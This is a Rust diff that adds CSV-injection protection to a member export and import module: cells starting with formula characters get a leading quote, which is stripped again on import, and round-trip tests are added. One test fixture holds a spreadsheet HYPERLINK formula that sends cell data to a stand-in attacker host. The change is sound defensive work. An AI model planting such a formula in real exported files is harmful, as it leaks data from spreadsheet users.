@@ -28,7 +28,36 @@ pub const EXPORT_COLUMNS: [&str; 9] = [
 /// Export columns an import reads past, so an export can be imported elsewhere as it is.
 const IGNORED: [&str; 4] = ["id", "status", "lifetime_earned", "created_at"];
 
-/// Every member as CSV, with the header `EXPORT_COLUMNS`.
+/// What a spreadsheet reads as the start of a formula (OWASP's list for CSV injection).
+const FORMULA_LEADS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Whether `cell` would start a formula once one `'` is taken off its front: a formula lead
+/// after any run of `'` (so a value that itself starts with `'=` also survives a round trip).
+fn needs_guard(cell: &str) -> bool {
+    cell.trim_start_matches('\'')
+        .starts_with(|c: char| FORMULA_LEADS.contains(&c))
+}
+
+/// A cell as written to a CSV file: a `'` goes in front of anything a spreadsheet would run as
+/// a formula, so `=HYPERLINK(...)` from a public join form shows as text.
+pub fn guard(cell: &str) -> std::borrow::Cow<'_, str> {
+    if needs_guard(cell) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// A cell as read from a CSV file: the `'` that `guard` added is taken off again, so an
+/// export imports back to the same values (a phone number `+44…` included).
+pub fn unguard(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if needs_guard(rest) => rest,
+        _ => cell,
+    }
+}
+
+/// Every member as CSV, with the header `EXPORT_COLUMNS`; every cell passes through `guard`.
 pub fn write(members: &[Member]) -> Result<String, csv::Error> {
     let mut w = csv::Writer::from_writer(Vec::new());
     w.write_record(EXPORT_COLUMNS)?;
@@ -37,7 +66,7 @@ pub fn write(members: &[Member]) -> Result<String, csv::Error> {
             .created_at
             .format(&time::format_description::well_known::Rfc3339)
             .unwrap_or_default();
-        w.write_record([
+        let cells = [
             m.id.as_str(),
             m.card_number.as_str(),
             m.name.as_ref().map_or("", |n| n.as_str()),
@@ -51,7 +80,8 @@ pub fn write(members: &[Member]) -> Result<String, csv::Error> {
             &m.balance.to_string(),
             &m.lifetime_earned.to_string(),
             &created,
-        ])?;
+        ];
+        w.write_record(cells.iter().map(|c| guard(c).into_owned()))?;
     }
     let bytes = w.into_inner().map_err(|e| e.into_error())?;
     Ok(String::from_utf8_lossy(&bytes).into_owned())
@@ -112,7 +142,11 @@ pub fn parse_lines(text: &str) -> Result<Vec<Result<ImportRow, LineError>>, Doma
             }));
             continue;
         }
-        let get = |c: Option<usize>| c.and_then(|i| record.get(i)).filter(|s| !s.is_empty());
+        let get = |c: Option<usize>| {
+            c.and_then(|i| record.get(i))
+                .map(unguard)
+                .filter(|s| !s.is_empty())
+        };
         let row = (|| {
             let member = NewMember {
                 name: get(name).map(PersonName::parse).transpose()?,
@@ -175,6 +209,37 @@ mod tests {
         assert_eq!(lines[1].as_ref().unwrap_err().line, 3);
         assert!(lines[2].as_ref().unwrap_err().message.contains("balance"));
         assert!(parse(text).unwrap_err().to_string().contains("line 3"));
+    }
+
+    #[test]
+    fn formula_leads_are_guarded_and_come_back_unchanged() {
+        for (raw, written) in [
+            (
+                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+                "'=HYPERLINK",
+            ),
+            ("+442079460958", "'+44"),
+            ("-2+3", "'-2"),
+            ("@SUM(A1)", "'@SUM"),
+            ("\t=1", "'\t"),
+            ("\r=1", "'\r"),
+            ("'=already quoted", "''="),
+            ("''@x", "'''@"),
+        ] {
+            let g = guard(raw);
+            assert!(g.starts_with(written), "{raw:?} -> {g:?}");
+            assert_eq!(unguard(&g), raw, "{raw:?} round trip");
+        }
+        for plain in [
+            "Ann Lee",
+            "'quoted",
+            "",
+            "o'neil@example.com",
+            "412345678905",
+        ] {
+            assert_eq!(guard(plain), plain);
+            assert_eq!(unguard(plain), plain);
+        }
     }
 
     #[test]
